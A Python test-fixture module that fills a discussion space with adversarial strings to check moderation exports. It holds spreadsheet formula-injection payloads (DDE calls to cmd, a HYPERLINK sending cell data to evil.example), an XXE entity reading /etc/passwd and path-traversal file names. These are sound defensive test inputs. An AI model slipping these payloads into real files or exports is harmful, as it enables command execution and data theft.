"""Words that somebody chose to do harm with, or that merely look so, and a space in which they stand everywhere."""

import html
from collections.abc import Sequence
from itertools import cycle
from typing import Any, Final

from hypothesis import strategies as st

from discussions.models import CoSignatory, Document, DocumentFile, Endorsement, Post, Space
from hub.kit.bilingual import set_texts
from hub.kit.clock import database_now
from hub.kit.sanitise import sanitise
from tests import factories
from tests.moderation.exports.varied import corrected

#: What spreadsheets may take for a formula or for a call to another program.
FORMULAS: Final = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u200b=1+1",
    "\u2060\ufeff=1+1",
    '"=1+1"',
    "'=1+1",
    "＝1+1",
    "＋cmd",
    "－cmd",
    "＠SUM(1)",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"press")',
    '=IMPORTXML("http://evil.example","//a")',
    '=WEBSERVICE("http://evil.example")',
    "DDEAUTO c:\\windows\\system32\\cmd.exe",
    'x;=1+1;"',
    'a\t=1+1\t"',
    'a\n"=1+1',
    "<r><t>x</t></r>",
    '<r></r></is></c><c r="A9"><f>1+1</f></c><c t="inlineStr"><is><r></r>',
)
#: What only looks so: it stays readable.
HARMLESS: Final = (
    "-5 degrees",
    "+41 22 717 91 11",
    "@name",
    "=",
    "-",
    "a=b",
    "name@place",
    "2 + 2 = 4",
    "- first\n- second",
    "_x0041_",
    "http://example.org/",
    "true",
    "1e5",
    "00123",
)
#: What breaks documents, names and lines.
OTHERS: Final = (
    "{ INCLUDETEXT C:\\\\secret.txt }",
    "]]></w:t></w:r><w:altChunk r:id='x'/>",
    "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>&a;",
    '#read("/etc/passwd") $x$ *b* @ref <lab> \\u{41}',
    "\x01\x02\x07\x08\x0b\x0c\x1b\x7f\x80\x9f",
    "\ufffe\uffff\ufdd0\U0001ffff",
    "\u202etxt.exe\u202c",
    "\u2066\u2067open\u2069",
    "منظمة\u202e الهجرة",
    "移民组织",
    "e\u0301 é ﬁ Å Å ½",
    "\U0001f469\u200d\U0001f33e\U000e0001",
    "\u3164\u115f\u00ad",
    "\u2028line\u2029paragraph\x85next",
    "a" + "\u0301" * 60,
    "W" * 300,
    "RT-0001",
    "../../etc/passwd",
    "..\\..\\boot.ini",
    "/etc/passwd",
    "C:\\x",
    "CON",
    "NUL.pdf",
    "com1.txt",
    "aux .",
    "name. . ",
    ".hidden",
    "~$lock",
    'a:b?*|<>"',
    "%2e%2e%2f",
    "CafÉ",
    "Cafe\u0301",
    "STRASSE straße",
)
ALL: Final = (*FORMULAS, *HARMLESS, *OTHERS)

_DEEP: Final = 45
#: Texts that are harder to draw than any that people write.
MARKUP: Final = tuple(
    sanitise(text)
    for text in (
        "<blockquote>" * _DEEP + "quoted" + "</blockquote>" * _DEEP,
        "<ul><li>" * _DEEP + "item" + "</li></ul>" * _DEEP,
        "<ol start='99999'><li>" * _DEEP + "item" + "</li></ol>" * _DEEP,
        "<blockquote><ol><li>" * _DEEP + "both" + "</li></ol></blockquote>" * _DEEP,
        "<table><tbody><tr><td><blockquote>" * _DEEP + "cell" + "</blockquote></td></tr></tbody></table>" * _DEEP,
        "<table>" + "<tr><td colspan=1000 rowspan=1000>x</td><td>y</td></tr>" * 20 + "</table>",
        "<table><tr>" + "<th>z</th>" * 70 + "</tr></table>",
        "<table><thead><tr><th rowspan=9>a</th></tr></thead></table><ul><li></li></ul><h4>h</h4><h3></h3>",
        "<p>" + "<strong><em><sup>" * _DEEP + "x" + "</sup></em></strong>" * _DEEP + "</p>",
        "<p><a href='https://a.example/" + "x" * 3000 + "'>l</a> <a href='http://[::1'>m</a> <a href='mailto:'>n</a>"
        " <a href='https://a.example/#b#c'>o</a> <a href='javascript:x'>p</a> <a href='file:///etc'>q</a></p>",
    )
)  # fmt: skip

_SIGNS: Final = "=+-@＝＋－＠\t\r\n;,|!({[<>&\"'`#$\\/.:%~ \xa0\u200b\u2060\u202e\u2066\ufeff\u0301éا移aAxX019_"
#: PostgreSQL keeps neither NUL nor halves of pairs: nothing that comes out of it has them.
WORDS: Final = st.one_of(
    st.text(st.sampled_from(_SIGNS), min_size=1, max_size=30),
    st.text(st.characters(exclude_characters="\0", exclude_categories=["Cs"]), min_size=1, max_size=30),
    st.builds(str.__add__, st.sampled_from(ALL), st.text(st.sampled_from(_SIGNS), max_size=5)),
    st.builds(str.__add__, st.text(st.sampled_from(_SIGNS), max_size=3), st.sampled_from(ALL)),
)  # fmt: skip
_LANGUAGES: Final = ("en", "ar", "zh-hans", "und", "fr", "fil", "he")
_STATES: Final = ("published", "published", "published", "pending", "hidden")
_ENDINGS: Final = (".pdf", ".PDF", "", ".txt", ".\u202efdp")


def html_of(words: str) -> str:
    """The words as the canonical text of a post."""
    return sanitise(f"<p>{html.escape(words)}</p>")


def nasty_space(words: Sequence[str], *, slug: str = "roundtable", prefix: str = "RT") -> Space:
    """One post for each of the words; each stands once as text, as name, as organisation, as name of a file, and so on."""
    space = factories.space(slug, prefix)
    set_texts(space, "title", {"en": words[0], "fr": words[-1]})
    space.save()
    factories.window(space)
    prompt = factories.prompt(space)
    set_texts(prompt, "text", {"en": html_of(words[-1]), "fr": html_of(words[0])})
    prompt.save()
    _documents(space, words)
    languages, states, endings = cycle(_LANGUAGES), cycle(_STATES), cycle(_ENDINGS)
    before: Post | None = None
    for number, text in enumerate(words):
        name, other = words[(number + 1) % len(words)], words[(number + 2) % len(words)]
        is_reply = before is not None and number % 3 == 2
        place: dict[str, Any] = {"answers": before} if is_reply else {"prompt": prompt}
        post = factories.post(
            space,
            body=html_of(text),
            state=next(states),
            language=next(languages),
            speaker={
                "speaker_name": name,
                "speaker_organisation": other if number % 4 else "",
                "speaker_group": "civil-society",
            },
            name_withheld="name" if number % 5 == 4 else "no",
            **place,
        )
        factories.attachment(post.latest_version, f"{name[:200]}{next(endings)}")
        _others(post, name, other)
        before = post
    for markup in MARKUP:
        factories.post(space, body=markup, prompt=prompt)
    return space


def _documents(space: Space, words: Sequence[str]) -> None:
    document = Document(space=space)
    set_texts(document, "title", {"en": words[0], "fr": words[-1]})
    document.save()
    stored = factories.attachment(factories.post(space).latest_version, "note.pdf")
    for position, language in enumerate(("en", "fr")):
        DocumentFile.objects.create(
            document=document,
            position=position,
            name=f"{words[0][:200]}.pdf",
            language=language,
            media_type="application/pdf",
            size=stored.size,
            sha256=stored.sha256,
            stored_as=stored.stored_as,
        )


def _others(post: Post, name: str, other: str) -> None:
    if post.number % 4 == 0 and post.state == "published":
        corrected(post, body=html_of(other))
    elif post.number % 4 == 1:
        Endorsement.objects.create(
            post=post, kind="person", endorser_name=name, reservation=other, at=database_now()
        )
        CoSignatory.objects.create(post=post, organisation_name=other, state="confirmed")
